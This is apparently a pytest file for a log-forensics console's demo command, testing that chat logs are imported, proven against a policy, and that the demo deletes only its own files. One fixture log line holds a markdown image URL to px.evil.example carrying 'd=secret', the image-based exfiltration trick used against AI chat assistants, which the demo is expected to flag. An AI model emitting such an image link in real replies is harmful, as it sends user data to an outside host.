"""`make demo`: from logs to proof in one go, again and again, and never over something else."""

from __future__ import annotations

from pathlib import Path

import pytest
from support.commands import line

from console import demo
from console.__main__ import main


@pytest.fixture
def logs(tmp_path: Path) -> Path:
    folder = tmp_path / "logs"
    folder.mkdir()
    asked = [line(f"question {n}", f"answer {n}", f"user{n % 3}") for n in range(8)]
    asked.append(line("look", "![x](https://px.evil.example/p.png?d=secret)", "victim"))
    (folder / "a.jsonl").write_text("\n".join(asked) + "\n")
    return folder


def test_the_demo_runs_from_import_to_proof_and_can_run_again(
    tmp_path: Path, logs: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["demo", "--directory", str(tmp_path / "demo"), "--logs", str(logs)]
    for _ in range(2):
        capsys.readouterr()
        assert main(words) == 0  # no terminal here: it ends with the summary
    said = capsys.readouterr()
    assert "9 interactions from 1 files" in said.out
    assert "VERIFIED to the policy" in said.out
    assert "https://px.evil.example" in said.out
    assert "SELECT" in said.out
    assert "has exactly these clear fields" in said.out
    assert "NO passphrase" in said.err
    assert main(["check", str(tmp_path / "demo" / "record.tlog-proof"), "--policy",
                 str(tmp_path / "demo" / "evidence.policy")]) == 0  # fmt: skip


def test_the_demo_removes_only_what_it_made(
    tmp_path: Path, logs: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.txt").write_text("years of work")
    assert main(["demo", "--directory", str(mine), "--logs", str(logs)]) == 3
    assert (mine / "thesis.txt").read_text() == "years of work"
    assert "was not made by the demo" in capsys.readouterr().err


@pytest.mark.slow
def test_the_sample_logs_answer_the_demos_questions(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["demo", "--directory", str(tmp_path / "demo"), "--no-console"]) == 0
    said = capsys.readouterr().out
    assert "px.status-badges.example" in said
    assert "2026-11-08 02:00:00     35" in said
    assert len(demo.QUESTIONS) == 3
    assert all(question.words in said and question.answer in said for question in demo.QUESTIONS)
